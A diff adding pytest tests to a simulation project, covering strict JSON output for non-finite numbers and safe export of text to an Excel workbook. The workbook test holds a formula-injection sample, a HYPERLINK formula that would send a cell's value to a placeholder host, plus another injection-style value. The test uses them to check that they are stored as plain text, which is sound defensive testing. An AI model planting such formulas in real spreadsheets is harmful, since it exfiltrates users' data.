@@ -10,7 +10,6 @@ import pytest
 
 from sim.cli import main
 from sim.experiments import run_experiment
-from sim.experiments.spec import ExperimentError
 from sim.experiments.store import input_hashes
 from sim.scenario.reads import files_read
 
@@ -92,3 +91,91 @@ def test_a_reserve_study_starts_over_when_its_base_changed_and_says_so(tmp_path,
     again = path_store(tmp_path / "kept", request, check(request))
     assert again.done() == set()
     assert "base scenario (based_on, level 1)" in again.started_over
+
+
+# ------------------------------------------------------------------ strict JSON
+
+
+def strict(text: str):
+    """Parse as a strict parser does: NaN and Infinity are not JSON."""
+    def refuse(constant):
+        raise ValueError(f"{constant} is not JSON")
+    return json.loads(text, parse_constant=refuse)
+
+
+def test_strict_json_writes_null_with_the_reason_and_reads_the_number_back():
+    import numpy as np
+
+    from sim import strict_json
+
+    value = {"rate": float("nan"), "runway": [1.0, np.inf], "a/b": {"c": -np.inf},
+             "count": np.int64(3), "ok": np.bool_(True)}
+    text = strict_json.dumps(value)
+    parsed = strict(text)
+    assert parsed["rate"] is None and parsed["runway"] == [1.0, None]
+    assert parsed["non_finite"] == {"/rate": "NaN", "/runway/1": "Infinity",
+                                    "/a~1b/c": "-Infinity"}
+    back = strict_json.loads(text)
+    assert np.isnan(back["rate"]) and back["runway"][1] == np.inf and back["a/b"]["c"] == -np.inf
+    assert back["count"] == 3 and back["ok"] is True and "non_finite" not in back
+
+
+def test_every_json_every_command_writes_parses_strictly(tmp_path):
+    (tmp_path / "scenario.toml").write_text(BASE)  # 30 days: rates over no defaults are NaN
+    reserve = tmp_path / "reserve.toml"
+    reserve.write_text(BASE.replace('name = "p"\n', 'name = "p"\n[platforms.guarantee]\n'
+                                                    'policy = "reserve_fund"\n'))
+    (tmp_path / "experiment.toml").write_text(EXPERIMENT)
+    commands = [
+        ["run", str(tmp_path / "scenario.toml"), "--out", str(tmp_path / "run")],
+        ["experiment", str(tmp_path / "experiment.toml"), "--out", str(tmp_path / "experiment"),
+         "--executor", "local"],
+        ["reserve", str(reserve), "--paths", "6", "--executor", "local",
+         "--out", str(tmp_path / "reserve")],
+        ["industry", str(ROOT / "scenarios" / "thunderstorm_2018.toml"), "--out",
+         str(tmp_path / "industry"), "--set", "industry.platforms=40",
+         "--set", "industry.investors=2000"],
+    ]
+    for command in commands:
+        assert main([*command, "--quiet"]) == 0, command
+    written = sorted(tmp_path.rglob("*.json"))
+    assert {p.parent.name for p in written} >= {"run", "experiment", "reserve", "industry"}
+    nulls = 0
+    for path in written:
+        document = strict(path.read_text(encoding="utf-8"))
+        nulls += isinstance(document, dict) and "non_finite" in document
+    assert nulls  # a NaN was there to be written, and was written as null with its reason
+
+
+# ------------------------------------------------------------------ the workbook
+
+
+def test_text_in_the_workbook_is_a_value_and_only_p2psims_totals_are_formulas(tmp_path):
+    import pandas as pd
+    from openpyxl import load_workbook
+
+    from sim.plan.sources import inputs_sheet
+    from sim.plan.workbook import Formula, write_workbook
+    from sim.scenario import load_scenario
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    child = tmp_path / "plan.toml"
+    child.write_text(f'based_on = "{ROOT / "scenarios" / "seed_business_plan.toml"}"\n'
+                     f'[plan.sources]\n"platforms.0.service_fee" = \'{hostile}\'\n'
+                     f'"platforms.0.company.vat_rate" = "+1 @SUM(A1) -2"\n')
+    scenario = load_scenario(child)
+    totals = pd.DataFrame({"Line": ["a", "b", "total"], "Month 1": [1.0, 2.0,
+                                                                     Formula("=SUM(B2:B3)")]})
+    path = tmp_path / "plan.xlsx"
+    write_workbook(path, {"Inputs": (inputs_sheet(scenario), {}), "Totals": (totals, {})},
+                   [("scenario", "=1+1"), ("note", "bell\x07 rung")])
+    book = load_workbook(path)
+    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book for row in
+                sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == [("Totals", "B4", "=SUM(B2:B3)")]
+    texts = {cell.value: cell for row in book["Inputs"].iter_rows() for cell in row}
+    assert texts[hostile].data_type == "s" and texts[hostile].quotePrefix
+    assert texts["+1 @SUM(A1) -2"].data_type == "s"
+    about = {row[0].value: row[1] for row in book["About"].iter_rows()}
+    assert about["scenario"].value == "=1+1" and about["scenario"].data_type == "s"
+    assert about["note"].value == "bell rung"  # a control character the format cannot hold
